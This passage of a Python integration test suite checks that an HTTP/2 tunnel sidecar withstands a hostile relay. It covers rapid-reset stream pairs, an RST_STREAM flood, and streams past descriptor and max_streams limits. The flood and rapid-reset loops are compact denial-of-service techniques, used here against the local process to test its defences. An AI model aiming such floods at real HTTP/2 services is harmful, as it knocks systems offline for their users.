        self.assertTrue(X.wait_log(self.proc, "(rapid reset)", 5))
        # Nothing left behind: the sidecar is back to its sockets of before
        # (plus at most its next tunnel being dialled).
        fds = X.wait_for(lambda: (lambda n: n if n <= fds_before + 1 else None)(
            len(os.listdir("/proc/%d/fd" % pid))), 10)
        self.assertIsNotNone(fds, "the sidecar holds %d descriptors, %d before the attack" %
                             (len(os.listdir("/proc/%d/fd" % pid)), fds_before))


class QuickCloseTest(TrustCase):
    """A relay that grants the lease, spends the sidecar's flood budgets and
    closes cleanly, over and over: the budgets are the sidecar's, not each
    tunnel's, and from the second tunnel in a row that ends within 10 s of
    its lease the sidecar dials less often (before: a fresh tunnel, with
    fresh budgets, every backoff_initial_ms)."""

    INITIAL = 50
    tunnel_overrides = {"tunnel": {"backoff_initial_ms": INITIAL, "backoff_max_ms": 60000,
                                   "allowed_ports": ["1024-65535"]}}

    def test_refused_stream_lines_and_dials_are_bounded_across_tunnels(self):
        drv = self.listener()
        ports = {"driver": drv.port, "blockManager": H.free_port()}
        cycles, refused = 0, 0
        t0 = time.monotonic()
        while time.monotonic() - t0 < 4.0:
            try:
                s, reg = self.fr.session(max(0.1, 4.0 - (time.monotonic() - t0)))
            except Exception:
                break  # the sidecar waits longer than the test
            self.leased(s, FR.lease_msg(lease="L-1-0a0a0a0a", ports=ports))
            ids = [s.connect(drv.port, lease="L-9-0b0b0b0b") for _ in range(25)]
            for sid in ids:
                self.assertEqual(s.wait_stream(sid), ("reset", FR.REFUSED_STREAM))
            refused += len(ids)
            s.close()
            cycles += 1
        sys.stderr.write("[it] quick closes: %d tunnels in 4 s, %d streams refused, %d "
                         "lines\n" % (cycles, refused, len(self.proc.grep("not the lease of "
                                                                          "this tunnel"))))
        # delays 25-50, 50-100, 100-200, 200-400, 400-800, 800-1600 ms ...:
        # at most 7 tunnels in 4 s (about 40 with a fresh start each time)
        self.assertLessEqual(cycles, 8, "%d tunnels in 4 s" % cycles)
        self.assertGreaterEqual(cycles, 3)
        self.assertTrue(self.proc.grep("times in a row: dialling less often"), self.proc.tail())
        # 20 lines a 10 s period for the sidecar, not for each tunnel
        lines = self.proc.grep("not the lease of this tunnel")
        self.assertLessEqual(len(lines), 21, "%d lines for %d refused streams on %d tunnels"
                             % (len(lines), refused, cycles))

    def test_rapid_reset_budget_is_not_renewed_by_a_new_tunnel(self):
        drv = self.listener()
        lease = "L-8-0c0c0c0c"
        ports = {"driver": drv.port, "blockManager": H.free_port()}
        pairs, tunnels = 0, 0
        t0 = time.monotonic()
        for _ in range(3):
            s, reg = self.fr.session(15)
            tunnels += 1
            self.leased(s, FR.lease_msg(lease=lease, ports=ports))
            block = s.connect_headers(drv.port, lease=lease, conn="1")
            send_reset_pairs(s, block, 150)  # under the budget of 200 a tunnel had
            pairs += 150
            s.wait_closed(0.5)
            s.close()
        took = time.monotonic() - t0
        connects = drv.settle(quiet=0.5)
        sys.stderr.write("[it] rapid reset over %d tunnels: %d pairs in %.2f s made %d "
                         "driver connects\n" % (tunnels, pairs, took, connects))
        # SC_EARLY_RST_BURST + SC_EARLY_RST_RATE a second, with slack
        self.assertLessEqual(connects, 200 + 20 * took + 20,
                             "%d of %d reset streams reached the driver" % (connects, pairs))
        self.assertTrue(X.wait_log(self.proc, "(rapid reset)", 5))


class DescriptorLimitTest(TrustCase):
    """A relay opens more streams than the sidecar has file descriptors
    (here 48): the streams past it are refused, the log says why (not "out
    of memory"), and the tunnel carries new streams once the others end."""

    def prepare(self):
        self.proc.argv = ["prlimit", "--nofile=48:48", "--"] + self.proc.argv

    def test_streams_past_the_descriptor_limit_are_refused_and_said(self):
        port = self.unaccepting_port()
        lease = "L-4-0d0d0d0d"
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease=lease,
                                    ports={"driver": port, "blockManager": H.free_port()}))
        ids = [s.connect(port, lease=lease, conn=str(i + 1)) for i in range(80)]
        got = [s.wait_stream(sid) for sid in ids]
        ok = [sid for sid, g in zip(ids, got) if g == ("ok", None)]
        refused = [g for g in got if g[0] == "reset"]
        self.assertTrue(ok, got)
        self.assertTrue(refused, "80 driver connections with 48 descriptors: none refused")
        self.assertEqual(len(ok) + len(refused), 80, got)
        self.assertTrue(X.wait_log(self.proc, "Too many open files", 5), self.proc.tail())
        self.assertFalse(self.proc.grep("out of memory"))
        self.assertFalse(self.proc.grep("is the driver running"))
        for sid in ok:
            s.reset(sid)
        s.pump(0.5)
        sid = s.connect(port, lease=lease, conn="1000")
        self.assertEqual(s.wait_stream(sid), ("ok", None))
        self.assertFalse(s.closed)


class StreamLimitTest(TrustCase):
    """A relay that opens more streams at once than the sidecar's
    tunnel.h2.max_streams (each a connection to the driver and a descriptor
    on the notebook) breaks the protocol: the tunnel ends, the driver saw no
    more connections than the limit, and the next tunnel waits longer (R6)."""

    LIMIT = 20
    tunnel_overrides = {"tunnel": {"h2": {"max_streams": LIMIT}}}

    def test_streams_past_max_streams_end_the_tunnel(self):
        port = self.unaccepting_port()
        lease = "L-4-0e0e0e0e"
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease=lease,
                                    ports={"driver": port, "blockManager": H.free_port()}))
        # the control stream is one of the LIMIT
        ids = [s.connect(port, lease=lease, conn=str(i + 1)) for i in range(self.LIMIT - 1)]
        got = [s.wait_stream(sid) for sid in ids]
        self.assertEqual(got, [("ok", None)] * len(ids), "streams within the limit")
        self.assertFalse(s.closed)
        before = driver_conns(port)
        self.assertEqual(before, self.LIMIT - 1)
        try:
            for i in range(10):
                s.connect(port, lease=lease, conn=str(100 + i))
        except OSError:
            pass  # the tunnel ended under the first ones
        self.assert_closed(s, "streams past tunnel.h2.max_streams")
        self.assertTrue(X.wait_log(self.proc, "max concurrent streams exceeded", 5),
                        self.proc.tail())
        self.assertTrue(self.proc.grep("the relay broke the protocol (1 time lately)"))
        # connect() to the driver is never called for the streams past it
        self.assertLessEqual(driver_conns(port, since=before), 0)


class HeldStreamsLimitTest(TrustCase):
    """Streams held for a resume keep their driver connections, so they
    count against tunnel.h2.max_streams: a relay that opens streams, drops
    the tunnel and announces a resume it never sends cannot hold the limit
    again on each new tunnel."""

    LIMIT = 10
    tunnel_overrides = {"tunnel": {"h2": {"max_streams": LIMIT}, "backoff_initial_ms": 50}}

    def test_held_streams_count_against_max_streams(self):
        port = self.unaccepting_port()
        lease = FR.lease_msg(lease="L-4-0f0f0f0f",
                             ports={"driver": port, "blockManager": H.free_port()})
        s, reg = self.fr.session(15)
        self.leased(s, lease)
        conn = iter(range(1, 1000))
        for cycle in range(3):
            if cycle:
                s, reg = self.fr.session(15)
                self.assertEqual(reg.get("resume"), lease["resume"], reg)
                # announces more streams than it will ever resume: none of
                # the held ones is reset as unknown
                s.send_ctl(dict(lease, streams=1000000))
            ids = [s.connect(port, lease=lease["lease"], conn=str(next(conn)))
                   for _ in range(self.LIMIT - 1)]
            got = [s.wait_stream(sid) for sid in ids]
            want = ("ok", None) if cycle == 0 else ("reset", FR.REFUSED_STREAM)
            self.assertEqual(got, [want] * len(ids), "tunnel %d" % (cycle + 1))
            self.assertEqual(driver_conns(port), self.LIMIT - 1, "tunnel %d" % (cycle + 1))
            s.sock.close()  # no close_notify: the streams are held
            s.closed = "local"
        self.assertTrue(X.wait_log(self.proc, "refused: 9 streams held for a resume and 1 open "
                                   "reach tunnel.h2.max_streams (10)", 5), self.proc.tail())


class PortsTakenTest(TrustCase):

    def test_a_lease_port_something_listens_on_is_said(self):
        """Relay and sidecar on one machine with the pool on 0.0.0.0: the
        sidecar's connections to 127.0.0.1:<lease port> reach the relay's
        own lease port, and each executor connection came back as a new one,
        8,192 deep, with nothing said. Something listening on a new lease's
        port before the driver started is now said."""
        busy = self.listener()
        free = H.free_port()
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(ports={"driver": busy.port, "blockManager": free}))
        lines = X.wait_log(self.proc, "something already listens on 127.0.0.1:%d" % busy.port,
                           5)
        self.assertTrue(lines, self.proc.tail())
        self.assertIn("the driver port of the new lease", lines[0])
        self.assertIn("bind the relay's pool to 127.0.0.2", lines[0])
        self.assertFalse(self.proc.grep("127.0.0.1:%d, the" % free))


class ResetFloodTest(TrustCase):
    # nghttp2's incoming-reset bucket on the sidecar (SC_RST_BURST) and a
    # margin for its refill while the flood is read.
    FLOOD = 10000 + 2000

    def test_reset_flood_ends_the_tunnel(self):
        """RST_STREAM frames past the sidecar's bound end the tunnel (they
        used to be accepted without limit)."""
        drv, other = self.listener(), self.listener()
        lease = "L-9-0d0d0d0d"
        s, reg = self.fr.session(15)
        self.leased(s, FR.lease_msg(lease=lease,
                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
        sid = s.connect(other.port, lease=lease)
        self.assertEqual(s.wait_stream(sid), ("reset", FR.REFUSED_STREAM))
        # Resets of a stream already closed cost the relay 13 bytes each and
        # the sidecar no connect: only the rate limit can stop them.
        rst = F.frame(F.RST_STREAM, 0, sid, struct.pack("!I", FR.CANCEL))
        sent = 0
        while sent < self.FLOOD and not s.closed:
            try:
                s.sendall(rst * 500)
            except OSError:
                break
            sent += 500
            s.pump(0)
        self.assert_closed(s, "reset flood", timeout=10)
        self.assertEqual(s.goaway, 2, "no GOAWAY(INTERNAL_ERROR) before the close")
        self.assertTrue(X.wait_log(self.proc, "relay broke HTTP/2 (sent GOAWAY", 5))
        self.assertEqual(other.count, 0)


if __name__ == "__main__":
    H.main()
